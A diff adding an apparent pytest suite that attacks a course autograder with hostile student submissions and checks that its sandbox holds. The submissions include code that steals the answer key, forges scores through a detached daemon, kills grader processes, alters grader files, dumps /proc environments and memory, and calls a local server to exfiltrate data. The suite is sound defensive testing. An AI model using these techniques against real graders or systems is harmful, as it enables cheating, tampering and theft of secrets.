@@ -1,0 +1,481 @@
+"""Hostile submissions against the real grader: batch grading and run_autograder.
+
+One real submission per attack a student who reads every file could try.
+Each is the model answer with the attack written into some regions; where the
+attack replaces a region's code, that part must score 0 (what a stub earns),
+and everything else its points. After grading, nothing outside the
+submission's scratch folder has changed, no process of the student's is
+left, and the results are the grader's.
+
+Batch grading runs in bubblewrap where it works; run_autograder runs as
+Gradescope runs it, as root with the unprivileged sandbox user (bubblewrap
+off, as in a Docker container that refuses namespaces). Where neither
+sandbox can run (no bwrap, not root), the tests skip with the reason.
+"""
+import hashlib
+import http.server
+import json
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import threading
+import time
+import zipfile
+
+import pytest
+
+from staff.grading import grader, sandbox as SB
+from staff.tests import grading_fixtures as G
+from staff.tests.test_grading import (HELDOUT, ROOT, _gradescope_layout, bundle,  # noqa: F401
+                                      check_schema, make_submission, prepend, starter)
+
+MARKER = 'cs231n-hostile-%d' % os.getpid()
+SECRET = 'grader-secret-%s' % hashlib.sha256(MARKER.encode()).hexdigest()[:16]
+
+
+def _available(kind):
+    try:
+        SB._chosen.clear()
+        return SB.choose(kind), None
+    except SB.SandboxUnavailable as e:
+        return None, str(e)
+    finally:
+        SB._chosen.clear()
+
+
+BWRAP, BWRAP_WHY = _available('bwrap')
+USER, USER_WHY = (_available('user') if os.geteuid() == 0 else
+                  (None, 'the sandbox user needs a grader running as root'))
+needs_bwrap = pytest.mark.skipif(BWRAP is None, reason='no bubblewrap sandbox: %s' % BWRAP_WHY)
+needs_user = pytest.mark.skipif(USER is None, reason='no sandbox user: %s' % USER_WHY)
+
+
+@pytest.fixture(scope='module')
+def rubric():
+    return grader.load_rubric()
+
+
+@pytest.fixture(scope='module')
+def server():
+    """A real HTTP server on 127.0.0.1 that counts the requests it gets."""
+    hits = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(b'exfiltrated')
+
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    yield httpd.server_address[1], hits
+    httpd.shutdown()
+
+
+# ---------------------------------------------------------------------------
+# The attacks, as code in the student's regions
+
+def steal(targets):
+    """Replace a region: find the staff's answer key by every route a student has."""
+    paths = ['%s/staff/grading/parts/references.py' % t for t in targets]
+    return lambda body: [
+        '    import gc, importlib, inspect, sys as _sys\n',
+        '    found = None\n',
+        '    for name in ("staff.grading.parts.references", "references", "staff.grading.api"):\n',
+        '        try:\n',
+        '            found = importlib.import_module(name)\n',
+        '            break\n',
+        '        except Exception:\n',
+        '            pass\n',
+        '    for path in %r:\n' % paths,
+        '        try:\n',
+        '            source = open(path).read()\n',
+        '            print("READ", path, len(source))\n',
+        '            found = found or source\n',
+        '        except Exception as e:\n',
+        '            pass\n',
+        '    for frame in inspect.stack():\n',
+        '        for value in list(frame.frame.f_globals.values()):\n',
+        '            if getattr(value, "__name__", "").endswith("references"):\n',
+        '                found = value\n',
+        '    for obj in gc.get_objects():\n',
+        '        if callable(obj) and getattr(obj, "__module__", "") and \\\n',
+        '                "staff" in str(getattr(obj, "__module__", "")):\n',
+        '            found = obj\n',
+        '    if found is not None:\n',
+        '        print("FOUND THE ANSWER KEY", found)\n',
+        '        raise RuntimeError("the answer key was reachable")\n',
+        '    raise NotImplementedError("nothing found")\n',
+        '\n']
+
+
+def daemon(paths, seconds=15):
+    """A process in a new session, double-forked, that keeps rewriting the results."""
+    forged = json.dumps({'score': 1000.0, 'tests': [], 'total': 1000})
+    code = ('import os, time\n'
+            'if os.fork(): os._exit(0)\n'
+            'os.setsid()\n'
+            'end = time.time() + %d\n'
+            'while time.time() < end:\n'
+            '    for p in %r:\n'
+            '        try:\n'
+            '            open(p, "w").write(%r)\n'
+            '        except OSError:\n'
+            '            pass\n'
+            '    time.sleep(0.005)\n' % (seconds, paths, forged))
+    return prepend('import subprocess, sys as _sys',
+                   'subprocess.Popen([_sys.executable, "-c", %r, %r], start_new_session=True, '
+                   'stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, '
+                   'stderr=subprocess.DEVNULL, env={})' % (code, MARKER),
+                   'import time as _time',
+                   '_time.sleep(0.3)')
+
+
+def kill_grader(forge):
+    """Forge the results, then SIGKILL every grading process it can find."""
+    return prepend(
+        'import os as _os, signal as _signal',
+        'for _p in %r:' % forge,
+        '    try:',
+        '        open(_p, "w").write(\'{"score": 100.0, "tests": []}\')',
+        '    except OSError:',
+        '        pass',
+        'for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:',
+        '    try:',
+        '        _cmd = open("/proc/%s/cmdline" % _pid, "rb").read()',
+        '    except OSError:',
+        '        continue',
+        '    if b"staff.grading" in _cmd or b"pytest" in _cmd or b"run_autograder" in _cmd:',
+        '        try:',
+        '            _os.kill(int(_pid), _signal.SIGKILL)',
+        '        except OSError:',
+        '            pass',
+        'for _pid in {_os.getppid(), 1}:',
+        '    try:',
+        '        _os.kill(_pid, _signal.SIGKILL)',
+        '    except OSError:',
+        '        pass')
+
+
+def interfere(paths_to_append, peers_to_read):
+    """Change the grader and the starter shared with peers; read the peers' work."""
+    return prepend(
+        'for _p in %r:' % paths_to_append,
+        '    try:',
+        '        open(_p, "a").write("\\nraise SystemExit(0)\\n")',
+        '        print("CHANGED", _p)',
+        '    except OSError:',
+        '        pass',
+        'for _p in %r:' % peers_to_read,
+        '    try:',
+        '        print("READ PEER", _p, len(open(_p, "rb").read()))',
+        '    except OSError:',
+        '        pass')
+
+
+def snoop():
+    """Print the grader's environment and memory, from /proc."""
+    return prepend(
+        'import os as _os',
+        'for _pid in ["self", str(_os.getppid()), "1"] + [p for p in _os.listdir("/proc") '
+        'if p.isdigit()]:',
+        '    for _what in ("environ", "cmdline"):',
+        '        try:',
+        '            print(_pid, _what, open("/proc/%s/%s" % (_pid, _what), "rb").read()[:3000])',
+        '        except OSError:',
+        '            pass',
+        '    try:',
+        '        with open("/proc/%s/mem" % _pid, "rb") as _f:',
+        '            print(_pid, "mem", _f.read(64))',
+        '    except (OSError, ValueError):',
+        '        pass')
+
+
+def write_outside(paths):
+    return prepend(
+        'for _p in %r:' % paths,
+        '    try:',
+        '        open(_p, "w").write("x")',
+        '    except OSError:',
+        '        pass')
+
+
+def phone_home(port):
+    return prepend(
+        'import socket as _socket, urllib.request as _u',
+        'try:',
+        '    _u.urlopen("http://127.0.0.1:%d/leak", timeout=2).read()' % port,
+        '    print("NETWORK REACHED")',
+        'except Exception as _e:',
+        '    print("no network:", type(_e).__name__)',
+        'try:',
+        '    _socket.create_connection(("127.0.0.1", %d), timeout=2)' % port,
+        '    print("SOCKET CONNECTED")',
+        'except Exception as _e:',
+        '    print("no socket:", type(_e).__name__)')
+
+
+# ---------------------------------------------------------------------------
+# The class
+
+def _tree_digest(*folders):
+    """{path: sha256} of every file under folders (what must not change)."""
+    out = {}
+    for top in folders:
+        for here, dirs, files in os.walk(top):
+            dirs[:] = [d for d in dirs if d != '__pycache__']
+            for name in files:
+                path = os.path.join(here, name)
+                with open(path, 'rb') as f:
+                    out[path] = hashlib.sha256(f.read()).hexdigest()
+    return out
+
+
+def _strays():
+    """Files the attacks may have left where the student's user could write."""
+    found = []
+    for top in ('/tmp', '/var/tmp', '/dev/shm'):
+        for here, dirs, files in os.walk(top):
+            found += [os.path.join(here, n) for n in files + dirs if MARKER in n]
+    return found
+
+
+def _processes_with(text):
+    pids = []
+    for pid in os.listdir('/proc'):
+        try:
+            with open('/proc/%s/cmdline' % pid, 'rb') as f:
+                if text.encode() in f.read():
+                    pids.append(int(pid))
+        except (OSError, ValueError):
+            pass
+    return [p for p in pids if p != os.getpid()]
+
+
+def hostile_class(starter, folder, out, grader_paths, server_port):
+    """{student: (zip path, parts that must score 0)} of the hostile class."""
+    results = [os.path.join(out, 'results', n + '.json') for n in ('alice', 'mallory_daemon')]
+    results += [os.path.join(out, 'grades.csv'), os.path.join(out, 'feedback', 'alice.txt'),
+                os.path.join(out, '.grader-key'), '/autograder/results/results.json']
+    outside = ['/tmp/%s' % MARKER, '/var/tmp/%s' % MARKER, '/dev/shm/%s' % MARKER,
+               os.path.expanduser('~/%s' % MARKER), os.path.join(str(folder), MARKER),
+               os.path.join(starter, MARKER)]
+    grader_files = [os.path.join(g, 'staff', 'grading', n) for g in grader_paths
+                    for n in ('__init__.py', 'grader.py', 'parts/references.py')]
+    peers = [os.path.join(str(folder), 'alice.zip'),
+             os.path.join(out, 'results', 'alice.json')]
+    subs = {
+        'alice': ({}, set()),
+        'mallory_steal': ({'affine_forward': steal(grader_paths),
+                           'relu_forward': steal(grader_paths),
+                           'adam': steal(grader_paths)},
+                          {'affine_forward', 'relu_forward', 'adam'}),
+        'mallory_daemon': ({'relu_backward': daemon(results)}, set()),
+        'mallory_kill': ({'sgd_momentum': kill_grader(results)}, set()),
+        'mallory_peers': ({'rmsprop': interfere(
+            grader_files + [os.path.join(starter, 'cs231n', 'layers.py')], peers)}, set()),
+        'mallory_snoop': ({'softmax_loss': snoop()}, set()),
+        'mallory_outside': ({'svm_loss': write_outside(outside)}, set()),
+        'mallory_network': ({'dropout_backward': phone_home(server_port)}, set()),
+    }
+    made = {}
+    for name, (edits, zero) in subs.items():
+        made[name] = (make_submission(starter, folder / 'made', name, edits), zero)
+    # Notebooks that print 0.99 beside untrained models: the accuracy points are lost.
+    liar = make_submission(starter, folder / 'made', 'mallory_accuracy', accuracies={
+        nb: {'TwoLayerNet best validation accuracy': 0.99, 'Validation set accuracy': 0.99}
+        for nb in ('notebooks/01_FullyConnectedNets.ipynb', 'notebooks/03_Dropout.ipynb')},
+        models=G.untrained_model_files())
+    made['mallory_accuracy'] = (liar, {'two_layer_net_accuracy', 'fc_net_best_accuracy',
+                                       'best_model_accuracy'})
+    for name, (path, _) in made.items():
+        shutil.copy(path, str(folder / (name + '.zip')))
+    return made
+
+
+def _expected_total(rubric, zero):
+    return rubric.total - sum(i.points for i in rubric.items if i.name in zero)
+
+
+def _check_outputs_leak_nothing(text, where):
+    assert SECRET not in text, '%s: the grader\'s environment reached the feedback' % where
+    assert 'FOUND THE ANSWER KEY' not in text and 'READ /' not in text, where
+    assert 'def net_loss' not in text and 'CHANGED' not in text and 'READ PEER' not in text, where
+    assert 'NETWORK REACHED' not in text and 'SOCKET CONNECTED' not in text, where
+
+
+@needs_bwrap
+def test_batch_grading_of_a_hostile_class(tmp_path, starter, rubric, server):
+    port, hits = server
+    folder = tmp_path / 'class'
+    folder.mkdir()
+    out = str(tmp_path / 'out')
+    made = hostile_class(starter, folder, out, [ROOT], port)
+    shutil.rmtree(str(folder / 'made'))
+    heldout = str(tmp_path / 'heldout.npz')
+    G.heldout_file(heldout, HELDOUT)
+    before = _tree_digest(os.path.join(ROOT, 'staff'), os.path.join(ROOT, 'cs231n'), starter,
+                          str(folder))
+    env = dict(os.environ, CS231N_TEST_MARKER=SECRET)
+    proc = subprocess.run([sys.executable, '-m', 'staff.grading.grade', str(folder), '--out', out,
+                           '--starter', starter, '--heldout', heldout, '--jobs', '2',
+                           '--sandbox=bwrap', '--no-progress'],
+                          cwd=ROOT, capture_output=True, text=True, timeout=900, env=env)
+    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-3000:]
+    assert 'sandbox: bwrap' in proc.stdout
+    time.sleep(0.5)            # a surviving daemon would rewrite the results meanwhile
+    stored = {n: json.load(open(os.path.join(out, 'results', n + '.json'))) for n in made}
+    for name, (_, zero) in made.items():
+        got = stored[name]
+        lost = {k for k, v in got['scores'].items()
+                if v < [i.points for i in rubric.items if i.name == k][0]}
+        assert lost == zero, (name, {k: t['output'][:300] for t in got['results']['tests']
+                                     for k in [t['name']] if k in lost ^ zero})
+        assert got['total'] == _expected_total(rubric, zero), name
+        feedback = open(os.path.join(out, 'feedback', name + '.txt')).read()
+        _check_outputs_leak_nothing(feedback, name)
+    with open(os.path.join(out, 'grades.csv')) as f:
+        rows = {r.split(',')[0]: r.strip().split(',')[-1] for r in f.readlines()[1:]}
+    assert {n: float(t) for n, t in rows.items()} == {
+        n: _expected_total(rubric, z) for n, (_, z) in made.items()}
+    steal_out = [t['output'] for t in stored['mallory_steal']['results']['tests']
+                 if t['name'] == 'affine_forward'][0]
+    assert 'nothing found' in steal_out, steal_out
+    liar = [t['output'] for t in stored['mallory_accuracy']['results']['tests']
+            if t['name'] == 'best_model_accuracy'][0]
+    assert 'does not reach' in liar, liar
+    assert _tree_digest(os.path.join(ROOT, 'staff'), os.path.join(ROOT, 'cs231n'), starter,
+                        str(folder)) == before
+    assert not _strays(), _strays()
+    assert not _processes_with(MARKER), 'a daemon outlived grading'
+    assert hits == [], 'the student\'s code reached the network'
+    # A resumed run trusts nothing it did not sign: a forged result is regraded.
+    forged = dict(stored['mallory_steal'], total=100.0)
+    with open(os.path.join(out, 'results', 'mallory_steal.json'), 'w') as f:
+        json.dump(forged, f)
+    proc = subprocess.run([sys.executable, '-m', 'staff.grading.grade', str(folder), '--out', out,
+                           '--starter', starter, '--heldout', heldout, '--jobs', '2',
+                           '--no-progress'], cwd=ROOT, capture_output=True, text=True,
+                          timeout=900)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert '%d already graded, 1 to grade' % (len(made) - 1) in proc.stdout, proc.stdout
+    again = json.load(open(os.path.join(out, 'results', 'mallory_steal.json')))
+    assert again['total'] == _expected_total(rubric, made['mallory_steal'][1])
+
+
+def _run_autograder(root, env=None, signal_after=None):
+    env = dict(os.environ, GRADESCOPE_ROOT=str(root), AUTOGRADER_PYTHON=sys.executable,
+               CS231N_TEST_MARKER=SECRET, **(env or {}))
+    proc = subprocess.Popen([str(root / 'run_autograder')], env=env, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True)
+    if signal_after is not None:
+        time.sleep(signal_after)
+        proc.send_signal(signal.SIGTERM)
+    stdout, stderr = proc.communicate(timeout=600)
+    with open(str(root / 'results' / 'results.json'), encoding='utf-8') as f:
+        return json.load(f), proc.returncode, stdout, stderr
+
+
+@needs_user
+@pytest.mark.parametrize('name', ['mallory_steal', 'mallory_daemon', 'mallory_kill',
+                                  'mallory_peers', 'mallory_snoop', 'mallory_outside',
+                                  'mallory_network', 'mallory_accuracy'])
+def test_run_autograder_as_the_sandbox_user(tmp_path, bundle, starter, rubric, server,  # noqa: F811
+                                            name):
+    """Gradescope's layout, root grading, the student's code as the sandbox user."""
+    port, hits = server
+    root = _gradescope_layout(tmp_path, bundle)
+    grader_root = str(root / 'source' / 'grader')
+    folder = tmp_path / 'subs'
+    folder.mkdir()
+    results = str(root / 'results')
+    made = hostile_class(starter, folder, results, [grader_root], port)
+    path, zero = made[name]
+    with zipfile.ZipFile(path) as z:
+        z.extractall(str(root / 'submission'))
+    before = _tree_digest(str(root / 'source'), starter)
+    data, status, stdout, stderr = _run_autograder(root, {'CS231N_SANDBOX': 'user'})
+    assert status == 0, stderr[-3000:]
+    time.sleep(0.5)
+    with open(os.path.join(results, 'results.json')) as f:
+        assert json.load(f) == data, 'results.json changed after the grader wrote it'
+    check_schema(data, rubric)
+    lost = {t['name'] for t in data['tests'] if t['score'] < t['max_score']}
+    assert lost == zero, {t['name']: t['output'][:300] for t in data['tests']
+                          if t['name'] in lost ^ zero}
+    assert data['score'] == _expected_total(rubric, zero)
+    _check_outputs_leak_nothing(json.dumps(data), name)
+    assert sorted(os.listdir(results)) == ['results.json']
+    assert _tree_digest(str(root / 'source'), starter) == before
+    assert not _strays(), _strays()
+    assert not SB.processes_of(USER.user[0]), 'a process of the sandbox user outlived grading'
+    assert hits == []
+
+
+@needs_user
+def test_sigterm_of_the_autograder_still_writes_results(tmp_path, bundle, starter, rubric):  # noqa: F811
+    root = _gradescope_layout(tmp_path, bundle)
+    path = make_submission(starter, tmp_path, 'sleeper', {
+        'affine_forward': prepend('import time', 'time.sleep(60)')})
+    shutil.copy(path, str(root / 'submission' / 'a2_submission.zip'))
+    data, status, stdout, stderr = _run_autograder(root, {'CS231N_SANDBOX': 'user'},
+                                                   signal_after=6)
+    assert status != 0
+    check_schema(dict(data, tests=[]), rubric) if data['tests'] else None
+    assert data['score'] == 0 and 'stopped by SIGTERM' in data['output'], data
+    assert not SB.processes_of(USER.user[0])
+
+
+@needs_bwrap
+def test_sigterm_of_a_batch_leaves_a_resumable_state(tmp_path, starter, rubric):  # noqa: F811
+    folder = tmp_path / 'class'
+    folder.mkdir()
+    shutil.copy(make_submission(starter, tmp_path, 'a'), str(folder / 'alice.zip'))
+    shutil.copy(make_submission(starter, tmp_path, 'b', {
+        'affine_forward': prepend('import time', 'time.sleep(60)')}), str(folder / 'zed.zip'))
+    heldout = str(tmp_path / 'heldout.npz')
+    G.heldout_file(heldout, HELDOUT)
+    out = str(tmp_path / 'out')
+    argv = [sys.executable, '-m', 'staff.grading.grade', str(folder), '--out', out, '--starter',
+            starter, '--heldout', heldout, '--jobs', '1', '--no-progress']
+    proc = subprocess.Popen(argv, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True)
+    deadline = time.monotonic() + 120
+    while not os.path.exists(os.path.join(out, 'results', 'alice.json')):
+        assert time.monotonic() < deadline and proc.poll() is None, proc.communicate()
+        time.sleep(0.2)
+    time.sleep(1.0)                              # zed's sleep is running now
+    proc.send_signal(signal.SIGTERM)
+    stdout, stderr = proc.communicate(timeout=60)
+    assert proc.returncode == 130, stderr
+    assert 'run the same command again to resume' in stderr
+    assert not _processes_with('time.sleep(60)')
+    with open(os.path.join(out, 'grades.csv')) as f:
+        assert [r.split(',')[0] for r in f.readlines()[1:]] == ['alice']
+    proc = subprocess.run(argv + ['--part-timeout', '2'], cwd=ROOT, capture_output=True,
+                          text=True, timeout=600)
+    assert proc.returncode == 0, proc.stderr
+    assert re.search(r'1 already graded, 1 to grade', proc.stdout), proc.stdout
+
+
+def test_no_sandbox_refuses_with_both_ways(monkeypatch):
+    """Without bubblewrap and without root, grading untrusted code is refused in one line."""
+    monkeypatch.setattr(SB, 'bwrap_works', lambda *a, **k: False)
+    monkeypatch.setattr(SB.os, 'geteuid', lambda: 1000)
+    SB._chosen.clear()
+    try:
+        with pytest.raises(SB.SandboxUnavailable) as e:
+            SB.choose('auto')
+    finally:
+        SB._chosen.clear()
+    message = str(e.value)
+    assert 'bubblewrap' in message and 'root' in message and '--trusted' in message
+    assert '\n' not in message
